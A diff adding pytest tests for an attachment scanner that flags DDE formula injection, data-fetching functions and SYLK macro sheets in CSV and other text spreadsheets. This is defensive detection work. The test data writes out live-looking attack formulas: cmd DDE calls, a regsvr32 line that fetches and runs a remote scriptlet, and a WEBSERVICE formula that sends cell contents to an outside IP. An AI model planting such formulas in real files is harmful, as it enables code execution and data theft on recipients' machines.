@@ -1,0 +1,81 @@
+"""Text spreadsheets: a formula in a cell can start a program, the same letters in prose cannot."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from attachguard.filetypes import filetype
+from attachguard.formats import spreadsheettext as inspector
+from attachguard.limits import Budget, Limits
+from attachguard.part import Part
+from tests.fixtures.spreadsheettext import SAMPLES, TABLE
+
+
+def details(report, code):
+    return [finding.detail for finding in report.findings if finding.code == code]
+
+
+@pytest.mark.parametrize("sample", ["plain/liste.csv", "lookalike/brief.txt", "plain/tabelle.slk"])
+def test_ordinary_tables_and_letters_have_no_findings(scan, sample):
+    assert scan(SAMPLES[sample](), sample.rpartition("/")[2]).findings == ()
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=cmd|'/c calc.exe'!A0",
+        "\"=cmd|'/c calc.exe'!A0\"",
+        "+cmd|'/c calc.exe'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll'!''",
+        "=cmd|notepad!A1",
+        '=DDE("cmd";"/C calc";"x")',
+    ],
+)
+@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
+def test_a_dde_formula_in_a_cell_is_active(scan, cell, codec):
+    report = scan((TABLE + f"Huber;{cell}\r\nMeier;3\r\n").encode(codec), "liste.csv")
+    found = details(report, "active-content")
+    assert len(found) == 1
+    assert found[0].startswith("DDE formula: ")
+
+
+@pytest.mark.parametrize("sample", ["dde/liste.txt", "dde/liste.dif", "dde/tabelle.slk"])
+def test_dde_is_found_in_the_other_text_forms(scan, sample):
+    assert len(details(scan(SAMPLES[sample](), sample.rpartition("/")[2]), "active-content")) == 1
+
+
+def test_a_function_that_fetches_is_a_reference(scan):
+    data = (
+        TABLE
+        + '"=WEBSERVICE(""https://198.51.100.7/?a=""&A1)";1\r\n"=HYPERLINK(""https://198.51.100.7/"",""Klick"")";2\r\n'
+    )
+    found = details(scan(data.encode(), "liste.csv"), "external-reference")
+    assert sorted(detail.split(":")[0] for detail in found) == [
+        "spreadsheet function HYPERLINK",
+        "spreadsheet function WEBSERVICE",
+    ]
+
+
+def test_a_sylk_macro_sheet_is_a_macro_and_a_layer(scan):
+    report = scan(SAMPLES["macro/tabelle.slk"](), "tabelle.slk")
+    assert details(report, "macro-content") == ["XLM (auto-exec, suspicious): SYLK macro sheet, 2 formulas, EXEC HALT"]
+    assert [part.role for part in report.parts] == ["attachment", "layer"]
+
+
+def test_a_truncated_macro_sheet_is_still_one(codes):
+    assert "macro-content" in codes(SAMPLES["truncated/tabelle.slk"](), "tabelle.slk")
+
+
+@pytest.mark.parametrize("piece", ["=a|'", ',"=', "=cmd|x", ",=,", "C;E;;", "-a|b!"])
+def test_repetition_takes_linear_time(piece):
+    part = Part("a.csv", ("ID;P\n" + piece * 40_000 + "!|").encode(), role="attachment", budget=Budget(Limits()))
+    part.load()
+    for kind in ("csv", "slk", "txt"):
+        part.types = [filetype(kind)]
+        start = time.process_time()
+        list(inspector.inspect(part))
+        assert time.process_time() - start < 0.5
